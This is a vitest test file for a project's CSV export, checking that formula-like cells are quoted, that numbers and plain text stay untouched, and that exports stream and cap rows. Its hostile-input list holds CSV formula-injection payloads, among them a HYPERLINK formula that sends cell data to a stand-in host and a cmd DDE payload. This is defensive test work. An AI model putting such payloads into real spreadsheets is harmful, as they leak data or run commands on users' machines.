import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../src/lib/csv.js';
import { csvResponse } from '../../src/lib/server/http/csv-response.js';
import { projectRoot } from '../../src/lib/server/project-root.js';

const parse = (csv: string) => Papa.parse<string[]>(csv.trim(), { header: false }).data;

describe('CSV export', () => {
	it('turns every cell that a spreadsheet would run as a formula into text', () => {
		const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1', '-', '+', '@'];
		const csv = toCsv(hostile.map((name) => ({ name })), ['name']);
		const cells = parse(csv).slice(1).map((r) => r[0]);
		expect(cells).toEqual(hostile.map((h) => `'${h}`));
	});
	it('leaves numbers as numbers, negative or not, and ordinary text alone', () => {
		expect(csvCell(-12.5)).toBe(-12.5);
		expect(csvCell('-12.5')).toBe('-12.5');
		expect(csvCell('+3')).toBe('+3');
		expect(csvCell('-1e-5')).toBe('-1e-5');
		expect(csvCell('rl-watchtime')).toBe('rl-watchtime');
		expect(csvCell('a=b')).toBe('a=b');
		expect(csvCell(null)).toBe('');
		expect(toCsv([{ v: -12.5, c: 'FR' }])).toBe('v,c\n-12.5,FR\n');
	});
	it('neutralises a hostile column name as well', () => {
		expect(parse(toCsv([{ '=x': 1 }]))[0]).toEqual(["'=x"]);
	});
	it('is the only CSV writer in src/: no other file calls Papa.unparse or joins cells by hand into a text/csv response', () => {
		const offenders: string[] = [];
		const walk = (dir: string) => {
			for (const e of readdirSync(dir, { withFileTypes: true })) {
				const p = join(dir, e.name);
				if (e.isDirectory()) walk(p);
				else if (/\.(ts|svelte|js)$/.test(e.name) && !p.endsWith(join('src', 'lib', 'csv.ts'))) {
					const text = readFileSync(p, 'utf8');
					if (/\bunparse\s*\(/.test(text)) offenders.push(`${p}: Papa.unparse`);
					if (/text\/csv/.test(text) && !/from '(\$lib\/csv|\$lib\/server\/http\/csv-response|[./]+(lib\/)?csv(\.js)?)'/.test(text) && !p.endsWith('hooks.server.ts')) offenders.push(`${p}: text/csv without src/lib/csv.ts`);
				}
			}
		};
		walk(join(projectRoot(), 'src'));
		expect(offenders).toEqual([]);
	});
	it('server exports are streamed in chunks, capped, and say so in their headers', async () => {
		const rows = Array.from({ length: 5_000 }, (_, i) => ({ n: i, name: i === 0 ? '=cmd()' : `row ${i}` }));
		const res = csvResponse({ filename: 'x.csv', fields: ['n', 'name'], rows, total: 7_000, cap: 4_500 });
		expect(Object.fromEntries(['x-row-cap', 'x-rows', 'x-rows-total', 'x-rows-truncated'].map((h) => [h, res.headers.get(h)]))).toEqual({
			'x-row-cap': '4500',
			'x-rows': '4500',
			'x-rows-total': '7000',
			'x-rows-truncated': '1'
		});
		const reader = res.body!.getReader();
		let chunks = 0;
		let text = '';
		for (let r = await reader.read(); !r.done; r = await reader.read()) {
			chunks++;
			text += new TextDecoder().decode(r.value);
		}
		expect(chunks).toBeGreaterThan(2);
		const parsed = parse(text);
		expect(parsed).toHaveLength(4_501);
		expect(parsed[1]).toEqual(['0', "'=cmd()"]);
		const whole = csvResponse({ filename: 'y.csv', fields: ['n'], rows: rows.slice(0, 3) });
		expect(whole.headers.get('x-rows-truncated')).toBe('0');
	});
});
